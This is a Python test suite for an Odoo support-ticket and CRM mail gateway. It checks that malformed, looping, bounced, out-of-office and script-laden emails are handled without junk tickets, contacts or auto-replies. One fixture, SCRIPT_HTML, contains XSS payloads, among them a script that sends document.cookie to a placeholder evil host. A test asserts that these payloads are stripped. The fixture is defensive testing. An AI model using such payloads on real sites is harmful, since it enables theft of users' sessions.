"""Hostile and malformed mail fed through ``message_process`` to the support
alias and to sales document threads: nothing crashes, no junk ticket or
contact, no acknowledgement to a robot, counts and states as expected.

The corpus starts from Odoo's own gateway test data (test_mail/data), loaded
from the Odoo source without installing test_mail."""

import base64
import importlib.util
import time
from datetime import timedelta

from odoo import fields
from odoo.tests import tagged
from odoo.tools import mute_logger
from odoo.tools.misc import file_path

from .common import INCOMING_EMAIL, SupportCommon


def _odoo_test_mail_data():
    spec = importlib.util.spec_from_file_location(
        "odoo_test_mail_data", file_path("test_mail/data/test_mail_data.py")
    )
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


ODOO_DATA = _odoo_test_mail_data()

# Out-of-office replies as the common servers send them (header sets).
OUT_OF_OFFICE = {
    "exchange": "Auto-Submitted: auto-generated\nX-Auto-Response-Suppress: All\n"
    "X-MS-Exchange-Inbox-Rules-Loop: carla@acme.example.com",
    "exchange_minimal": "X-Auto-Response-Suppress: All",
    "gmail_vacation": "Auto-Submitted: auto-replied",
    "postfix_vacation": "Auto-Submitted: auto-replied\nPrecedence: junk\n"
    "X-Loop: Postfix Admin Virtual Vacation",
    "unix_vacation": "Precedence: junk",
    "precedence_auto_reply": "Precedence: auto_reply",
}

SCRIPT_HTML = """Return-Path: <carla@acme.example.com>
To: {to}
From: {email_from}
Subject: {subject}
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Message-ID: {msg_id}
{extra}

<html><head><script>alert('head')</script></head>
<body onload="steal()"><p>Hello<script>document.location='https://evil.example.com/?'+document.cookie</script></p>
<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">click</a>
<iframe src="https://evil.example.com"></iframe><svg onload="alert(3)"></svg></body></html>
"""


@tagged("post_install", "-at_install")
class TestHostileMail(SupportCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.Ticket = cls.env["crm.support.ticket"].with_context(active_test=False)

    def setUp(self):
        super().setUp()
        self.tickets_before = self.Ticket.search_count([])
        self.partners_before = (
            self.env["res.partner"].with_context(active_test=False).search_count([])
        )

    # ---- helpers ----

    def _process(self, template, email_from, subject, extra="", to=None, **kwargs):
        with self.mock_mail_gateway():
            record = self.format_and_process(
                template,
                email_from,
                to or self.queue.alias_email,
                subject=subject,
                extra=extra,
                target_model=kwargs.pop("target_model", "crm.support.ticket"),
                **kwargs,
            )
        return record

    def _process_raw(self, raw):
        """Feed raw bytes, as the mail fetcher does."""
        with self.mock_mail_gateway():
            return self.env["mail.thread"].message_process(None, raw)

    def _new_tickets(self):
        return self.Ticket.search_count([]) - self.tickets_before

    def _new_partners(self):
        return (
            self.env["res.partner"].with_context(active_test=False).search_count([])
            - self.partners_before
        )

    def _sent_to_customers(self):
        """Mails to anybody outside the company (customers, robots)."""
        return self._new_mails.filtered(
            lambda m: (
                m.email_to
                or m.recipient_ids.filtered(lambda p: not p.user_ids or p.user_ids[0].share)
            )
        )

    def _ticket_by_customer(self, subject="Order 42 missing"):
        ticket = self._process(INCOMING_EMAIL, "carla@acme.example.com", subject)
        self.assertEqual(len(self._sent_to_customers()), 1, "The person got the acknowledgement")
        return ticket

    def _reply_to(self, parent, template, email_from, subject, extra=""):
        """An email answering ``parent`` (a record's latest message, or a message)."""
        if parent._name != "mail.message":
            parent = parent.message_ids.filtered("message_id")[:1]
        refs = f"In-Reply-To: {parent.message_id}\nReferences: {parent.message_id}"
        to = self.queue.alias_email if parent.model == "crm.support.ticket" else "sales@x.example"
        return self._process(
            template, email_from, subject, extra=f"{refs}\n{extra}" if extra else refs, to=to
        )

    # ---- corpus ----

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_no_from_header(self):
        raw = ODOO_DATA.MAIL_TEMPLATE.format(
            return_path="<>",
            to=self.queue.alias_email,
            cc="",
            email_from="",
            subject="Nobody wrote this",
            msg_id="<no-from-1@x.example.com>",
            extra="",
        ).replace("From: \n", "")
        self._process_raw(raw.encode())
        self.assertEqual(self._new_tickets(), 1, "Kept: nothing is lost")
        ticket = self.Ticket.search([("name", "=", "Nobody wrote this")])
        self.assertFalse(ticket.partner_id)
        self.assertEqual(self._new_partners(), 0)
        self.assertFalse(self._sent_to_customers(), "Nobody to answer")

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_invalid_and_mixed_encodings(self):
        # Odoo's own invalid-encoding sample (a broken XML attachment).
        ticket = self._process(
            ODOO_DATA.MAIL_MULTIPART_INVALID_ENCODING, "carla@acme.example.com", "Peppol broken"
        )
        self.assertEqual(len(ticket), 1)
        self.assertEqual(len(ticket.message_ids.attachment_ids), 1)
        # Mixed charsets: latin-1 and utf-8 encoded words in one header, a
        # body declared utf-8 carrying latin-1 bytes, an unknown charset part.
        raw = (
            b"From: =?iso-8859-1?q?Andr=E9?= =?utf-8?b?w6lsaWU=?= <carla@acme.example.com>\n"
            b"To: " + self.queue.alias_email.encode() + b"\n"
            b"Subject: =?iso-8859-1?q?Caf=E9?= =?utf-8?q?_cr=C3=A8me?= =?bogus?q?x?= \xff\xfe\n"
            b"Message-ID: <mixed-1@x.example.com>\n"
            b"MIME-Version: 1.0\n"
            b'Content-Type: multipart/mixed; boundary="B"\n\n'
            b'--B\nContent-Type: text/plain; charset="utf-8"\n\nPrix: 10\xe9 \xc3\xa9t\xe9\n'
            b'--B\nContent-Type: text/plain; charset="x-no-such-charset"\n\nabc \x80\x81\n'
            b"--B--\n"
        )
        self._process_raw(raw)
        mixed = self.Ticket.search(
            [("partner_id", "=", self.customer.id)], order="id desc", limit=1
        )
        self.assertIn("Caf", mixed.name)
        self.assertIn("Prix", mixed.description)
        self.assertEqual(self._new_tickets(), 2)
        self.assertEqual(self._new_partners(), 0, "Carla was recognised")

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_large_attachment(self):
        """A 20 MB attachment is stored whole, in a few seconds."""
        payload = bytes(range(256)) * (20 * 1024 * 4)  # 20 MiB
        encoded = base64.encodebytes(payload).decode()
        template = (
            "Return-Path: {return_path}\nTo: {to}\ncc: {cc}\nFrom: {email_from}\n"
            "Subject: {subject}\nMIME-Version: 1.0\nMessage-ID: {msg_id}\n{extra}"
            'Content-Type: multipart/mixed; boundary="XX"\n\n'
            "--XX\nContent-Type: text/plain\n\nSee the dump\n"
            '--XX\nContent-Type: application/octet-stream; name="dump.bin"\n'
            "Content-Transfer-Encoding: base64\n"
            'Content-Disposition: attachment; filename="dump.bin"\n\n'
            + encoded.replace("{", "{{").replace("}", "}}")
            + "\n--XX--\n"
        )
        start = time.monotonic()
        ticket = self._process(template, "carla@acme.example.com", "Core dump")
        elapsed = time.monotonic() - start
        attachment = ticket.message_ids.attachment_ids
        self.assertEqual(attachment.name, "dump.bin")
        self.assertEqual(attachment.file_size, len(payload))
        self.assertEqual(attachment.raw, payload)
        self.assertLess(elapsed, 60, "Parsing a 20 MB mail stays fast")

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_html_with_scripts_is_sanitized(self):
        ticket = self._process(SCRIPT_HTML, "carla@acme.example.com", "Scripted")
        for html in (ticket.description, ticket.message_ids.filtered("message_id")[0].body):
            lowered = str(html).lower()
            for needle in ("<script", "onerror", "onload", "javascript:", "<iframe", "evil"):
                self.assertNotIn(needle, lowered)
            self.assertIn("hello", lowered)
        lead = self.env["crm.lead"].create({"name": "Hostile lead", "partner_id": self.customer.id})
        lead.message_post(body="Offer sent", message_type="comment")
        self._reply_to(lead, SCRIPT_HTML, "carla@acme.example.com", "Re: offer scripted")
        body = str(lead.message_ids[0].body).lower()
        self.assertNotIn("<script", body)
        self.assertNotIn("onerror", body)

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_same_message_id_twice(self):
        raw = INCOMING_EMAIL.format(
            return_path="<carla@acme.example.com>",
            to=self.queue.alias_email,
            cc="",
            email_from="carla@acme.example.com",
            subject="Twice",
            msg_id="<twice-1@x.example.com>",
            extra="",
        ).encode()
        self._process_raw(raw)
        self.assertEqual(len(self._sent_to_customers()), 1)
        self._process_raw(raw)
        self.assertFalse(self._sent_to_customers(), "No second acknowledgement")
        self.assertEqual(self._new_tickets(), 1)
        ticket = self.Ticket.search([("name", "=", "Twice")])
        self.assertEqual(len(ticket.message_ids.filtered(lambda m: m.message_type == "email")), 1)

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_reply_loop_between_two_robots(self):
        """Two robots answer each other with our alias in copy: a ticketing
        robot without machine headers and a vacation responder. One ticket,
        one acknowledgement (to the first mail), the loop's mails are kept on
        the ticket and nothing else is sent."""
        robot_a, robot_b = "tickets@vendor.example.com", "Vacation <away@partner.example.com>"
        previous = "<loop-0@vendor.example.com>"
        ticket = self._process(
            INCOMING_EMAIL, robot_a, "Case 1234 opened", msg_id=previous, cc=robot_b
        )
        sent = len(self._sent_to_customers())
        for index in range(1, 30):
            sender, header = (
                (robot_b, OUT_OF_OFFICE["postfix_vacation"])
                if index % 2
                else (
                    robot_a,
                    "",
                )
            )
            msg_id = f"<loop-{index}@robots.example.com>"
            self._process(
                INCOMING_EMAIL,
                sender,
                f"Re: Case 1234 opened ({index})",
                extra=f"In-Reply-To: {previous}\n{header}",
                msg_id=msg_id,
                target_model="crm.support.ticket",
            )
            sent += len(self._sent_to_customers())
            previous = msg_id
        self.assertEqual(self._new_tickets(), 1)
        self.assertEqual(sent, 1, "Only the first mail was acknowledged")
        self.assertEqual(len(ticket.message_ids.filtered(lambda m: m.message_type == "email")), 30)
        self.assertEqual(self._new_partners(), 1, "The first sender only; the robot in CC is none")

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_bounces(self):
        ticket = self._ticket_by_customer()
        ack = self._sent_to_customers()
        ack_message_id = ack.mail_message_id.message_id
        count = len(ticket.message_ids)
        # Odoo's own DSN sample, answering our acknowledgement.
        self._process(
            ODOO_DATA.MAIL_BOUNCE,
            "carla@acme.example.com",
            "Undelivered Mail Returned to Sender",
            extra=ack_message_id,
        )
        # A DSN from a postmaster address, not from MAILER-DAEMON.
        dsn = ODOO_DATA.MAIL_BOUNCE.replace(
            "From: MAILER-DAEMON@mail2.test.ironsky (Mail Delivery System)",
            "From: Postmaster <postmaster@acme.example.com>",
        ).replace("Message-Id: <20190415134106", "Message-Id: <20190415134107")
        self._process(dsn, "carla@acme.example.com", "Delivery Status Notification", extra="<x@y>")
        self.assertEqual(self._new_tickets(), 1, "Only the customer's ticket")
        self.assertEqual(len(ticket.message_ids), count, "Bounces are not conversation")
        self.assertEqual(self._new_partners(), 0)
        self.assertFalse(self._sent_to_customers())

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_out_of_office_of_common_servers(self):
        ticket = self._ticket_by_customer()
        ack = self._sent_to_customers().mail_message_id
        ticket.with_user(self.user_support).message_post(
            body="Please send the invoice", message_type="comment", subtype_xmlid="mail.mt_comment"
        )
        ticket.stage_id = self.stage_waiting
        notice = fields.Datetime.now() - timedelta(hours=1)
        ticket.auto_close_notice_date = notice
        history = self.env["crm.interaction"].search_count([("res_id", "=", ticket.id)])
        for server, headers in OUT_OF_OFFICE.items():
            with self.subTest(server=server):
                self._reply_to(
                    ack, INCOMING_EMAIL, "carla@acme.example.com", f"OOF {server}", headers
                )
                self.assertFalse(self._sent_to_customers())
                self.assertEqual(ticket.stage_id, self.stage_waiting)
                self.assertEqual(ticket.auto_close_notice_date, notice)
                self.assertFalse(
                    ticket.sla_status_ids.filtered(lambda line: line.target_type == "next_reply")
                )
        # An out-of-office not answering anything of ours, from an unknown address.
        for server, headers in OUT_OF_OFFICE.items():
            self._process(
                INCOMING_EMAIL, f"{server}@away.example.com", f"Automatic reply {server}", headers
            )
        self.assertFalse(self._sent_to_customers())
        self.assertEqual(self._new_partners(), 0, "No contact for an out-of-office")
        self.assertEqual(self._new_tickets(), 1 + len(OUT_OF_OFFICE), "Kept, without contact")
        self.assertEqual(
            self.env["crm.interaction"].search_count([("res_id", "=", ticket.id)]), history
        )
        self.assertEqual(
            len(ticket.message_ids.filtered(lambda m: m.message_type == "email")),
            1 + len(OUT_OF_OFFICE),
        )

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_reply_to_merged_ticket(self):
        first = self._ticket_by_customer("Printer jam")
        second = self._ticket_by_customer("Printer jam again")
        second_msg = second.message_ids.filtered(lambda m: m.message_type == "email")
        (first | second).with_user(self.user_support)._merge_into(first)
        self.assertFalse(second.active)
        self._process(
            INCOMING_EMAIL,
            "carla@acme.example.com",
            "Re: Printer jam again",
            extra=f"In-Reply-To: {second_msg.message_id}",
        )
        self.assertEqual(self._new_tickets(), 2, "No third ticket")
        self.assertFalse(second.active, "The merged ticket stays archived")
        self.assertIn("Re: Printer jam again", first.message_ids.mapped("subject"))

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_reply_to_closed_ticket_after_grace(self):
        ticket = self._ticket_by_customer("Slow site")
        ticket.stage_id = self.stage_solved
        ticket.close_date = fields.Datetime.now() - timedelta(days=30)
        first = ticket.message_ids.filtered(lambda m: m.message_type == "email")
        self._process(
            INCOMING_EMAIL,
            "carla@acme.example.com",
            "Re: Slow site (OOF)",
            extra=f"In-Reply-To: {first.message_id}\n{OUT_OF_OFFICE['exchange']}",
        )
        self.assertEqual(self._new_tickets(), 1, "An out-of-office opens no follow-up")
        followup = self._process(
            INCOMING_EMAIL,
            "carla@acme.example.com",
            "Re: Slow site, still slow",
            extra=f"In-Reply-To: {first.message_id}",
        )
        self.assertEqual(followup.parent_id, ticket)
        self.assertTrue(ticket.is_closed)
        self.assertFalse(followup.is_closed)
        self.assertEqual(self._new_tickets(), 2)
        self.assertEqual(self._new_partners(), 0)

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_order_and_opportunity_threads(self):
        """Replies on a sales order and an opportunity: out-of-office, broken
        encoding and a DSN; they stay on the document, no ticket, no contact."""
        order = self.env["sale.order"].create({"partner_id": self.customer.id})
        lead = self.env["crm.lead"].create(
            {"name": "Big deal", "type": "opportunity", "partner_id": self.customer.id}
        )
        for record in (order, lead):
            record.message_post(body="Quote attached", message_type="comment")
            before = len(record.message_ids)
            self._reply_to(
                record, INCOMING_EMAIL, "carla@acme.example.com", "OOF", OUT_OF_OFFICE["exchange"]
            )
            self._reply_to(
                record,
                ODOO_DATA.MAIL_MULTIPART_INVALID_ENCODING,
                "Unknown Person <unknown.person@else.example.com>",
                "Broken reply",
            )
            self.assertEqual(len(record.message_ids), before + 2)
        self.assertEqual(self._new_tickets(), 0)
        self.assertEqual(self.env["sale.order"].search_count([("id", ">", order.id)]), 0)
        self.assertEqual(self._new_partners(), 0)
